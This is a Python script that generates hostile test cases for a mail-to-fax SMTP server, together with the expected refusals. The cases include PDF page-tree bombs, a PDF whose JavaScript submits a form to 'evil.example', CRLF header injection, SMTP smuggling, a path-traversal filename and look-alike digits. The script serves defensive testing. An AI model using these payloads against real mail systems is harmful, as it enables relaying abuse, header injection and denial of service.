"""Writes the hostile SMTP cases of ``tests/hostile/``: crafted mails, raw SMTP scripts and
``cases.json``, which says for each case what is sent and what the server must answer.

Run ``python3 tests/hostile/make_cases.py`` after changing a case. Big cases (a mail over the
size limit, 10,000 MIME parts, 5,000 nesting levels) are only named here: the test builds them
at run time (``"generator"``) so the folder stays small.

Fields of a case in cases.json:

- ``name``, ``what``: an identifier and a sentence for people.
- ``kind``: ``mail`` (EHLO, MAIL, RCPT..., DATA with ``file`` or ``generator`` as content),
  ``script`` (the raw bytes of ``file`` written in one go, optionally before the greeting),
  ``stall`` (DATA that stops half way) or ``trickle`` (DATA that arrives slowly but steadily).
- ``mail_from``, ``rcpt``: the literal arguments of ``MAIL FROM:`` and ``RCPT TO:``.
- ``expect``: ``stage`` (``mail``, ``rcpt`` or ``data``: the reply that decides), ``code``,
  ``words`` (each must appear in that reply); for accepted mails ``pages``, ``jobs`` and
  optionally ``documents`` (file names) and ``clean_status_mail`` (the status mail must not
  carry an injected header); for scripts ``replies`` (every reply code, in order).
"""

from __future__ import annotations

import base64
import io
import json
import os
from collections.abc import Sequence
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pikepdf
from PIL import Image

HERE = Path(__file__).resolve().parent
# The corpus as tests/fixtures/locate.py finds it: $MAILFAX_CORPUS, else ../shared/corpus beside
# the repository (set MAILFAX_CORPUS when running this in a git worktree).
CORPUS = Path(os.environ.get("MAILFAX_CORPUS") or HERE.parents[2] / "shared" / "corpus")

SENDER = "<alice@example.org>"
FAX = "<030123456@fax.local>"
FAX_NUMBER = "+4930123456"

CASES: list[dict[str, Any]] = []


# --- building blocks ---------------------------------------------------------------------------

def crlf(text: str | bytes) -> bytes:
    """Any line ends → CRLF, as on the wire."""
    data = text.encode("utf-8") if isinstance(text, str) else text
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def tiny_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True)
    return out.getvalue()


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF written by hand (for page trees pikepdf itself refuses to write)."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def pdf_repeated_leaf(count: int) -> bytes:
    """One page object listed ``count`` times: a small file that opens as ``count`` pages."""
    kids = " ".join(["3 0 R"] * count)
    return raw_pdf([CATALOG, f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(), PAGE])


def pdf_fanout_tree(fan: int, depth: int) -> bytes:
    """A page tree whose every level lists the level below ``fan`` times: fan**depth pages."""
    objects = [CATALOG, b"", PAGE]
    for level in range(depth):
        kid = "3 0 R" if level == 0 else f"{3 + level} 0 R"
        objects.append(f"<< /Type /Pages /Parent 2 0 R /Kids [{' '.join([kid] * fan)}] "
                       f"/Count {fan ** (level + 1)} >>".encode())
    objects[1] = f"<< /Type /Pages /Kids [{2 + depth} 0 R] /Count {fan ** depth} >>".encode()
    return raw_pdf(objects)


def pdf_looping_tree() -> bytes:
    """A /Pages node that lists itself and the root among its kids, claiming 10^9 pages."""
    return raw_pdf([CATALOG,
                    b"<< /Type /Pages /Kids [4 0 R] /Count 1000000000 >>", PAGE,
                    b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 4 0 R 2 0 R] "
                    b"/Count 1000000000 >>"])


def pdf_deep_tree(depth: int) -> bytes:
    """One page under ``depth`` levels of /Pages nodes."""
    objects = [CATALOG, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
               f"<< /Type /Page /Parent {3 + depth} 0 R /MediaBox [0 0 595 842] >>".encode()]
    for level in range(depth):  # object 4 is the top, object 3 + depth the lowest
        number = 4 + level
        kid = 3 if level == depth - 1 else number + 1
        parent = 2 if level == 0 else number - 1
        objects.append(f"<< /Type /Pages /Parent {parent} 0 R /Kids [{kid} 0 R] /Count 1 >>"
                       .encode())
    return raw_pdf(objects)


def pdf_lying_count() -> bytes:
    """One real page, but the page tree claims a billion."""
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", PAGE])


def pdf_with_javascript() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE,
                    b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\("
                    b"'http://evil.example/'\\);) >>"])


def gif_frames(count: int) -> bytes:
    frames = [Image.new("L", (8, 8), color=index * 3 % 256) for index in range(count)]
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=10)
    return out.getvalue()


def png(size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("1", size, color=1).save(out, format="PNG", optimize=True)
    return out.getvalue()


def mail(attachments: Sequence[tuple[str, bytes, str]] = (), *,
         subject: str = "Hostile case", body: str = "Please fax the attachment.",
         headers: dict[str, str] | None = None, from_: str = "alice@example.org") -> bytes:
    message = EmailMessage()
    message["From"] = from_
    message["To"] = "030123456@fax.local"
    message["Subject"] = subject
    message["Message-ID"] = "<hostile@example.org>"
    for name, value in (headers or {}).items():
        message[name] = value
    message.set_content(body)
    for filename, data, content_type in attachments:
        maintype, subtype = content_type.split("/")
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return crlf(message.as_bytes())


def raw_mail(headers: str, body: str | bytes) -> bytes:
    tail = body.encode("utf-8") if isinstance(body, str) else body
    return crlf(headers.encode("utf-8") + b"\n" + tail)


def b64(data: bytes) -> str:
    encoded = base64.b64encode(data).decode()
    return "\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76))


def add(name: str, what: str, expect: dict[str, Any], *, data: bytes | None = None,
        suffix: str = ".eml", generator: str | None = None, kind: str = "mail",
        mail_from: str = SENDER, rcpt: list[str] | None = None,
        before_greeting: bool = False) -> None:
    case: dict[str, Any] = {"name": name, "what": what, "kind": kind, "mail_from": mail_from,
                            "rcpt": rcpt if rcpt is not None else [FAX], "expect": expect}
    if data is not None:
        case["file"] = name + suffix
        (HERE / case["file"]).write_bytes(data)
    if generator:
        case["generator"] = generator
    if before_greeting:
        case["before_greeting"] = True
    CASES.append(case)


def refused_at_data(*words: str, code: int = 554) -> dict[str, Any]:
    return {"stage": "data", "code": code, "words": list(words)}


def accepted(pages: int, jobs: int = 1, **more: Any) -> dict[str, Any]:
    return {"stage": "data", "code": 250, "words": ["queued as"], "pages": pages, "jobs": jobs,
            **more}


def refused_at_rcpt(code: int, *words: str) -> dict[str, Any]:
    return {"stage": "rcpt", "code": code, "words": list(words)}


# --- the cases ---------------------------------------------------------------------------------

def size_and_structure() -> None:
    add("oversized", "a mail 1 MB over smtp.max_message_size (built at test time)",
        refused_at_data("Too much mail data", code=552), generator="oversized")
    add("mime_parts_10000", "10,000 MIME parts (built at test time)",
        refused_at_data("5.6.0", "more than 500 MIME parts"), generator="mime_parts_10000")
    add("nesting_5000", "multipart nested 5,000 levels deep (built at test time)",
        refused_at_data("5.6.0"), generator="nesting_5000")
    parts = "".join(f"--b{level}\nContent-Type: multipart/mixed; boundary=\"b{level + 1}\"\n\n"
                    for level in range(100))
    closing = "".join(f"--b{level}--\n" for level in reversed(range(101)))
    add("nesting_100", "multipart/mixed nested 100 levels deep, a PDF at the bottom",
        refused_at_data("5.6.0", "nested more than"),
        data=raw_mail("From: alice@example.org\nTo: 030123456@fax.local\nSubject: deep\n"
                      "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b0\"\n",
                      parts + "--b100\nContent-Type: application/pdf; name=deep.pdf\n"
                      "Content-Transfer-Encoding: base64\n\n" + b64(tiny_pdf()) + "\n"
                      + closing))
    inner = mail([("forwarded.pdf", tiny_pdf(), "application/pdf")])
    for _ in range(40):
        inner = raw_mail("From: bob@example.org\nTo: alice@example.org\nSubject: Fwd\n"
                         "MIME-Version: 1.0\nContent-Type: message/rfc822\n", inner)
    add("rfc822_loop_40", "a forward inside a forward, 40 times (message/rfc822 loop)",
        refused_at_data("5.6.0", "nested more than"), data=inner)
    inner = mail([("forwarded.pdf", tiny_pdf(2), "application/pdf")])
    for _ in range(3):
        inner = raw_mail("From: bob@example.org\nTo: alice@example.org\nSubject: Fwd\n"
                         "MIME-Version: 1.0\nContent-Type: message/rfc822\n", inner)
    add("rfc822_forward_3", "a PDF forwarded three times (a normal depth): still faxed",
        accepted(2, documents=["forwarded.pdf"]), data=inner)
    add("empty_mail", "DATA with nothing before the final dot",
        refused_at_data("5.6.0", "no document"), data=b"")
    add("headers_only", "headers and no body, not even the blank line",
        refused_at_data("5.6.0", "no document"),
        data=crlf("From: alice@example.org\nTo: 030123456@fax.local\nSubject: nothing\n"))
    add("text_only", "a plain text mail, no attachment",
        refused_at_data("5.6.0", "no document"), data=mail())
    add("multipart_no_boundary", "multipart/mixed without a boundary parameter",
        refused_at_data("5.6.0", "no document"),
        data=raw_mail("From: alice@example.org\nTo: 030123456@fax.local\nSubject: x\n"
                      "MIME-Version: 1.0\nContent-Type: multipart/mixed\n",
                      "--\nContent-Type: application/pdf\n\n%PDF-1.4 garbage\n"))
    add("overlong_line_100k", "a body line of 100 KB (RFC 5321 allows 998 characters)",
        refused_at_data("Line too long", code=500),
        data=raw_mail("From: alice@example.org\nSubject: long\n", "x" * 100_000 + "\n"))
    add("line_998", "a body line of exactly 998 characters beside a PDF: within the limit",
        accepted(1), data=mail([("ok.pdf", tiny_pdf(), "application/pdf")],
                               body="y" * 998))
    folded = "\n ".join(["word" * 18] * 1400)  # about 100 KB, folded to legal line lengths
    add("long_header_100k", "a Subject header of 100 KB, folded into legal lines",
        accepted(1), data=raw_mail(
            f"From: alice@example.org\nTo: 030123456@fax.local\nSubject: {folded}\n"
            "MIME-Version: 1.0\nContent-Type: application/pdf; name=a.pdf\n"
            "Content-Transfer-Encoding: base64\n", b64(tiny_pdf()) + "\n"))
    many = "".join(f"X-Filler-{index}: {index}\n" for index in range(10_000))
    add("header_flood_10000", "10,000 header fields", accepted(1), data=raw_mail(
        "From: alice@example.org\nTo: 030123456@fax.local\nSubject: flood\n" + many
        + "MIME-Version: 1.0\nContent-Type: application/pdf; name=a.pdf\n"
        "Content-Transfer-Encoding: base64\n", b64(tiny_pdf()) + "\n"))
    references = " ".join(f"<ref{index}@example.org>" for index in range(3000))
    add("references_flood", "a References header with 3,000 message ids", accepted(
        1, clean_status_mail=True), data=mail([("a.pdf", tiny_pdf(), "application/pdf")],
                                              headers={"References": references}))


def documents() -> None:
    pdf = tiny_pdf()
    broken = base64.b64encode(pdf).decode()
    broken = broken[:40] + "!!**~~%%" + broken[40:200] + "=\n=AAA" + broken[200:]
    add("pdf_invalid_base64", "a PDF part whose base64 has invalid characters and padding",
        refused_at_data("5.6.0", "invoice.pdf"), data=raw_mail(
            "From: alice@example.org\nTo: 030123456@fax.local\nSubject: b64\n"
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n",
            "--B\nContent-Type: text/plain\n\nhi\n--B\nContent-Type: application/pdf\n"
            "Content-Disposition: attachment; filename=invoice.pdf\n"
            "Content-Transfer-Encoding: base64\n\n" + broken + "\n--B--\n"))
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script>Invoice</body></html>\n"
    add("pdf_is_html", "an application/pdf part that is an HTML page",
        refused_at_data("5.6.0", "invoice.pdf", "is not a PDF"),
        data=mail([("invoice.pdf", html, "application/pdf")]))
    add("pdf_html_polyglot", "HTML first, %PDF- only after 2 KB",
        refused_at_data("5.6.0", "poly.pdf", "is not a PDF"),
        data=mail([("poly.pdf", b"<html>" + b" " * 2048 + pdf, "application/pdf")]))
    encrypted = (CORPUS / "pdf" / "libreoffice-writer-password.pdf").read_bytes()
    add("pdf_user_password", "a PDF that needs a user password to open",
        refused_at_data("5.6.0", "secret.pdf", "needs a password"),
        data=mail([("secret.pdf", encrypted, "application/pdf")]))
    add("pdf_bomb_20000_pages", "one page object listed 20,000 times in the page tree",
        refused_at_data("5.6.0", "bomb.pdf", "20000 pages"),
        data=mail([("bomb.pdf", pdf_repeated_leaf(20_000), "application/pdf")]))
    add("pdf_bomb_fanout", "a page tree whose levels repeat the level below: 10^8 pages",
        refused_at_data("5.6.0", "fan.pdf", "damaged PDF"),
        data=mail([("fan.pdf", pdf_fanout_tree(10, 8), "application/pdf")]))
    add("pdf_bomb_loop", "a /Pages node that is its own kid and claims 10^9 pages",
        refused_at_data("5.6.0", "loop.pdf", "damaged PDF"),
        data=mail([("loop.pdf", pdf_looping_tree(), "application/pdf")]))
    add("pdf_bomb_deep", "one page under 500 nested /Pages nodes",
        refused_at_data("5.6.0", "deep.pdf", "damaged PDF"),
        data=mail([("deep.pdf", pdf_deep_tree(500), "application/pdf")]))
    add("pdf_lying_count", "one real page, /Count claims 10^9: the real count is used",
        accepted(1), data=mail([("liar.pdf", pdf_lying_count(), "application/pdf")]))
    add("pdf_javascript", "a valid one-page PDF with an /OpenAction JavaScript: faxed as paper",
        accepted(1), data=mail([("js.pdf", pdf_with_javascript(), "application/pdf")]))
    two_pages = (CORPUS / "pdf" / "two-different-pages.pdf").read_bytes()
    add("pdf_truncated", "two-different-pages.pdf cut off half way (no xref, no %%EOF, the "
        "page contents missing): refused as incomplete, not faxed as blank pages",
        refused_at_data("5.6.0", "cut.pdf", "incomplete"),
        data=mail([("cut.pdf", two_pages[: len(two_pages) // 2], "application/pdf")]))
    hostile = CORPUS / "fax-tiff" / "hostile"
    add("gif_decompression_bomb", "decompression_bomb.gif from the corpus",
        refused_at_data("5.6.0", "bomb.gif", "too large an image"),
        data=mail([("bomb.gif", (hostile / "decompression_bomb.gif").read_bytes(),
                    "image/gif")]))
    add("png_decompression_dos", "png_decompression_dos.png from the corpus",
        refused_at_data("5.6.0", "dos.png"),
        data=mail([("dos.png", (hostile / "png_decompression_dos.png").read_bytes(),
                    "image/png")]))
    add("tiff_crash", "crash-2020-10-test.tif from the corpus (a fuzzer crash)",
        refused_at_data("5.6.0", "crash.tif"),
        data=mail([("crash.tif", (hostile / "crash-2020-10-test.tif").read_bytes(),
                    "image/tiff")]))
    add("tiff_oom", "oom-…tif from the corpus (claims a huge allocation)",
        refused_at_data("5.6.0", "oom.tif"),
        data=mail([("oom.tif", (hostile / "oom-225817ca0f8c663be7ab4b9e717b02c661e66834.tif")
                    .read_bytes(), "image/tiff")]))
    add("gif_51_frames", "an animated GIF of 51 frames (more than a fax should have)",
        refused_at_data("5.6.0", "frames.gif", "more than 50 pages"),
        data=mail([("frames.gif", gif_frames(51), "image/gif")]))
    add("png_extreme_aspect", "a 1 × 50,000 pixel PNG: a legal size, one page",
        accepted(1), data=mail([("strip.png", png((1, 50_000)), "image/png")]))
    add("zip_attachment", "a zip archive (not faxable)",
        refused_at_data("5.6.0", "no document", "docs.zip"),
        data=mail([("docs.zip", b"PK\x03\x04" + b"\x00" * 60, "application/zip")]))
    add("exe_as_octet_stream", "a Windows program as application/octet-stream",
        refused_at_data("5.6.0", "no document", "setup.exe"),
        data=mail([("setup.exe", b"MZ\x90\x00" + b"\x00" * 60, "application/octet-stream")]))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    add("svg_with_script", "an SVG image with a script",
        refused_at_data("5.6.0", "no document", "logo.svg"),
        data=mail([("logo.svg", svg, "image/svg+xml")]))
    add("path_traversal_name", "a real PDF named ../../../etc/passwd.pdf",
        accepted(1, documents=["passwd.pdf"]),
        data=mail([("../../../etc/passwd.pdf", pdf, "application/pdf")]))


def injection() -> None:
    pdf = tiny_pdf()
    add("subject_crlf_injection", "an encoded-word Subject that decodes to CRLF + Bcc header",
        accepted(1, clean_status_mail=True), data=raw_mail(
            "From: alice@example.org\nTo: 030123456@fax.local\n"
            "Subject: =?utf-8?q?Invoice=0D=0ABcc:_victim@example.com=0D=0AX-Injected:_yes?=\n"
            "MIME-Version: 1.0\nContent-Type: application/pdf; name=a.pdf\n"
            "Content-Transfer-Encoding: base64\n", b64(pdf) + "\n"))
    add("from_header_injection", "a From header whose name decodes to CRLF + Bcc header",
        accepted(1, clean_status_mail=True), data=raw_mail(
            "From: =?utf-8?q?Eve=0D=0ABcc:_victim@example.com=0D=0AX-Injected:_yes?= "
            "<alice@example.org>\nTo: 030123456@fax.local\nSubject: from\n"
            "MIME-Version: 1.0\nContent-Type: application/pdf; name=a.pdf\n"
            "Content-Transfer-Encoding: base64\n", b64(pdf) + "\n"))
    add("message_id_injection", "a Message-ID that decodes to CRLF + Bcc header",
        accepted(1, clean_status_mail=True), data=raw_mail(
            "From: alice@example.org\nTo: 030123456@fax.local\nSubject: mid\n"
            "Message-ID: =?utf-8?q?<a@b>=0D=0ABcc:_victim@example.com=0D=0AX-Injected:_y?=\n"
            "MIME-Version: 1.0\nContent-Type: application/pdf; name=a.pdf\n"
            "Content-Transfer-Encoding: base64\n", b64(pdf) + "\n"))
    add("filename_crlf_injection_refused",
        "a broken PDF whose RFC 2231 file name holds CRLF and a fake 250 reply: the refusal "
        "must stay one clean line",
        refused_at_data("5.6.0", "damaged PDF"), data=raw_mail(
            "From: alice@example.org\nTo: 030123456@fax.local\nSubject: name\n"
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n",
            "--B\nContent-Type: application/pdf\nContent-Disposition: attachment;\n"
            " filename*=utf-8''x%0D%0A250%202.0.0%20queued%20as%20fake%0D%0ABcc%3A%20v%40e.com"
            ".pdf\nContent-Transfer-Encoding: base64\n\n" + b64(b"%PDF-1.4\ntrailer garbage\n")
            + "\n--B--\n"))
    add("filename_crlf_injection_accepted",
        "a real PDF whose encoded-word file name holds CRLF + Bcc: the stored name has no "
        "line break and the status mail no injected header",
        accepted(1, clean_status_mail=True, documents=["aBcc: victim@example.com.pdf"]),
        data=raw_mail(
            "From: alice@example.org\nTo: 030123456@fax.local\nSubject: name ok\n"
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n",
            "--B\nContent-Type: application/pdf\nContent-Disposition: attachment;\n"
            " filename=\"=?utf-8?q?a=0D=0ABcc:_victim@example.com.pdf?=\"\n"
            "Content-Transfer-Encoding: base64\n\n" + b64(pdf) + "\n--B--\n"))
    add("nul_in_header_name", "a NUL byte in a header name: the header block ends there, "
        "so the MIME structure below is not seen",
        refused_at_data("5.6.0", "no document"), data=crlf(
            b"From: alice@example.org\nTo: 030123456@fax.local\nSubject: nul\n"
            b"X-Nul\x00Header: v\nMIME-Version: 1.0\nContent-Type: application/pdf\n"
            b"Content-Transfer-Encoding: base64\n\n" + b64(pdf).encode() + b"\n"))
    add("nul_bytes", "NUL bytes in the Subject, the attachment's name and the body text",
        accepted(1, clean_status_mail=True, documents=["nul.pdf"]), data=crlf(
            b"From: alice@example.org\nTo: 030123456@fax.local\nSubject: nul\x00here\n"
            b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n"
            b"\n--B\nContent-Type: text/plain\n\nbody\x00text\n--B\nContent-Type: application/pdf"
            b"\nContent-Disposition: attachment; filename=\"nul\x00.pdf\"\n"
            b"Content-Transfer-Encoding: base64\n\n" + b64(pdf).encode() + b"\n--B--\n"))
    add("smtp_smuggling", "bare-LF and bare-CR dot lines followed by a second MAIL/RCPT/DATA "
        "inside one message: it must stay one message (one 250, one job)",
        accepted(1), data=mail([("a.pdf", pdf, "application/pdf")])
        + b"\n.\nMAIL FROM:<eve@example.org>\nRCPT TO:<030999999@fax.local>\nDATA\n"
        + b"\r.\rMAIL FROM:<eve@example.org>\r\nRCPT TO:<030999999@fax.local>\r\n"
        + b"DATA\r\nSubject: smuggled\r\n\r\nx\r\n")
    add("duplicate_recipients", "the same fax number five times in different spellings",
        accepted(1, jobs=1), data=mail([("a.pdf", pdf, "application/pdf")]),
        rcpt=[FAX, "<+4930123456@fax.local>", "<0049-30-123456@fax.local>",
              "<030/123456@fax.local>", "<030.123456@FAX.LOCAL>"])
    add("rcpt_parenthesised_area_code", "(089)30123456: a comment in an SMTP path is not "
        "RFC 5321; refused as malformed, never faxed to Berlin +49 30 123456 with the "
        "comment dropped", {"stage": "rcpt", "code": 553, "words": ["malformed"]},
        rcpt=["<(089)30123456@fax.local>"])


def addresses() -> None:
    pdf_for_sender = tiny_pdf()
    bad_numbers = [
        ("rcpt_fullwidth_digits", "０３０１２３４５６", "FULLWIDTH DIGIT"),
        ("rcpt_arabic_indic_digits", "٠٣٠١٢٣٤٥٦", "ARABIC-INDIC DIGIT"),
        ("rcpt_extended_arabic_digits", "۰۳۰۱۲۳۴۵۶", "EXTENDED ARABIC-INDIC DIGIT"),
        ("rcpt_devanagari_digits", "०३०१२३४५६", "DEVANAGARI DIGIT"),
        ("rcpt_math_bold_digits", "𝟎𝟑𝟎𝟏𝟐𝟑𝟒𝟓𝟔", "MATHEMATICAL BOLD DIGIT"),
        ("rcpt_superscript_digits", "030¹²³456", "SUPERSCRIPT"),
        ("rcpt_rtl_override", "\u202e654321030", "RIGHT-TO-LEFT OVERRIDE"),
        ("rcpt_rtl_mark", "030\u200f123456", "RIGHT-TO-LEFT MARK"),
        ("rcpt_zero_width_space", "030\u200b123456", "ZERO WIDTH SPACE"),
        ("rcpt_letters", "call-me-maybe", "not a fax number"),
        ("rcpt_bad_tag", "030123456+a!b", "not a valid tag"),
        ("rcpt_200_digits", "1" * 200, "too long"),
    ]
    for name, local, word in bad_numbers:
        add(name, f"RCPT TO a look-alike or hostile number: {local[:20]!r}",
            refused_at_rcpt(550, "5.1.1", word), rcpt=[f"<{local}@fax.local>"])
    add("rcpt_premium_rate", "a premium-rate number (toll fraud)",
        refused_at_rcpt(550, "5.7.1", "premium-rate"), rcpt=["<09001234567@fax.local>"])
    add("rcpt_nul_foreign_domain", "a NUL byte in a foreign domain: refused as malformed, and "
        "the reply echoes no control character", refused_at_rcpt(553, "malformed"),
        rcpt=["<030123456@ex\x00ample.com>"])
    add("rcpt_nul_byte", "a NUL byte in the number: a control character makes the path "
        "malformed", refused_at_rcpt(553, "malformed"), rcpt=["<030\x00123456@fax.local>"])
    add("rcpt_null", "RCPT TO:<> (the null address)",
        refused_at_rcpt(550, "5.7.1", "Relaying denied"),
        rcpt=["<>"])
    add("rcpt_no_brackets", "RCPT TO without angle brackets (lenient, our domain: accepted)",
        refused_at_rcpt(250, FAX_NUMBER), rcpt=["030123456@fax.local"])
    add("rcpt_1000_char_local", "a local part of 1,000 characters",
        refused_at_rcpt(500, "too long"), rcpt=[f"<{'9' * 1000}@fax.local>"])
    add("too_many_recipients", "one recipient more than smtp.max_recipients (5 in the test)",
        refused_at_rcpt(452, "4.5.3", "Too many recipients"),
        rcpt=[f"<03012345{digit}@fax.local>" for digit in range(6)])
    add("mail_size_over_limit", "MAIL FROM with SIZE= far over the limit",
        {"stage": "mail", "code": 552, "words": ["size exceeds"]},
        mail_from=SENDER + " SIZE=999999999")
    add("mail_from_nul", "an envelope sender with a NUL byte: refused at MAIL (5xx), never "
        "the To of a status mail", {"stage": "mail", "code": [501, 550, 553], "words": []},
        mail_from="<al\x00ice@example.org>")
    add("mail_from_nul_status_mail", "a whole mail from an envelope sender with a NUL byte: "
        "refused at MAIL, so no status mail can ever carry it",
        {"stage": "mail", "code": 553, "words": ["malformed"]},
        mail_from="<bo\x00b@example.org>",
        data=mail([("a.pdf", pdf_for_sender, "application/pdf")]))


def scripts() -> None:
    pdf_mail = mail([("pipelined.pdf", tiny_pdf(2), "application/pdf")])
    transaction = (b"EHLO pipeliner\r\nMAIL FROM:<alice@example.org>\r\n"
                   b"RCPT TO:<030123456@fax.local>\r\nDATA\r\n" + pdf_mail
                   + b".\r\nQUIT\r\n")
    add("pipelining_one_write", "EHLO, MAIL, RCPT, DATA, the message and QUIT in one write",
        {"stage": "script", "replies": [250, 250, 250, 354, 250, 221], "pages": 2, "jobs": 1},
        kind="script", suffix=".smtp", data=transaction)
    add("early_talker", "the whole transaction written before the server's greeting",
        {"stage": "script", "replies": [220, 250, 250, 250, 354, 250, 221], "pages": 2,
         "jobs": 1}, kind="script", suffix=".smtp", data=transaction, before_greeting=True)
    smuggle = (b"EHLO pipeliner\r\nMAIL FROM:<alice@example.org>\r\n"
               b"RCPT TO:<evil@example.com>\r\nDATA\r\nNOOP\r\nFrom: x\r\n.\r\nQUIT\r\n")
    add("pipelining_refused_rcpt", "pipelined transaction whose RCPT is refused: DATA fails "
        "and the message lines are read as (bad) commands; no job",
        {"stage": "script", "replies": [250, 250, 550, 503, 250, 500, 500, 221], "jobs": 0},
        kind="script", suffix=".smtp", data=smuggle)
    add("unknown_command_spam", "200 unknown commands in one write: cut off after a few",
        {"stage": "script", "replies": [250, 500, 500, 500, 500, 502], "jobs": 0,
         "closed": True, "words": {"5": ["Too many unrecognized"]}},
        kind="script", suffix=".smtp", data=b"EHLO spam\r\n" + b"XYZZY plugh\r\n" * 200)
    add("overlong_command", "a 5,000-character NOOP, then a normal NOOP",
        {"stage": "script", "replies": [250, 500, 250, 221], "jobs": 0,
         "words": {"1": ["too long"]}}, kind="script", suffix=".smtp",
        data=b"EHLO x\r\nNOOP " + b"a" * 5000 + b"\r\nNOOP\r\nQUIT\r\n")
    add("data_before_rcpt", "DATA without MAIL and RCPT, then a message body",
        {"stage": "script", "replies": [250, 503, 500, 221], "jobs": 0},
        kind="script", suffix=".smtp", data=b"EHLO x\r\nDATA\r\n.\r\nQUIT\r\n")
    add("data_stall", "DATA that stops half way: dropped after smtp.data_timeout while other "
        "clients are served", {"stage": "data", "code": 0, "words": []}, kind="stall",
        data=mail([("half.pdf", tiny_pdf(), "application/pdf")]))
    add("data_trickle", "DATA that arrives slowly but steadily for longer than "
        "smtp.data_timeout: a slow line, not a staller",
        accepted(1), kind="trickle", data=mail([("slow.pdf", tiny_pdf(), "application/pdf")]))


def main() -> None:
    for old in HERE.iterdir():
        if old.suffix in (".eml", ".smtp"):
            old.unlink()
    (HERE / "tiny.pdf").write_bytes(tiny_pdf())  # the normal mail sent between and after
    size_and_structure()
    documents()
    injection()
    addresses()
    scripts()
    names = [case["name"] for case in CASES]
    assert len(names) == len(set(names)), "case names must be unique"
    (HERE / "cases.json").write_text(json.dumps(CASES, indent=1, ensure_ascii=False) + "\n",
                                     encoding="utf-8")
    total = sum(path.stat().st_size for path in HERE.iterdir() if path.is_file())
    print(f"{len(CASES)} cases, {total / 1024:.0f} KB in {HERE}")


if __name__ == "__main__":
    main()
